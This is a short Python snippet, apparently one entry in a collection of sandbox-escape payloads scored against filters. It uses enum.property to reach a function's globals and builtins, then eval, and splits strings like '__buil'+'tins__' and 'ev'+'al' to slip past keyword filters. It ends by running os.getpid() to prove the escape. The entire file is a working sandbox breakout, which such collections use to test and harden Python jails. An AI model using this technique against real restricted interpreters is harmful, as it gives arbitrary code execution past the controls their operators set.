# attribute by name through enum.property | ratio1 misses | strict catches | proves pid | needs >=3.12
import enum
p = enum.property()
p._attr_type = "attr"
p._cls_type = lambda: 0
p.name = "__globals__"
b = p.__get__(1)["__buil" + "tins__"]
if not isinstance(b, dict):
    p._cls_type = b
    p.name = "__dict__"
    b = p.__get__(1)
print("escaped", b["ev" + "al"]("__import__('os').getpid()"))
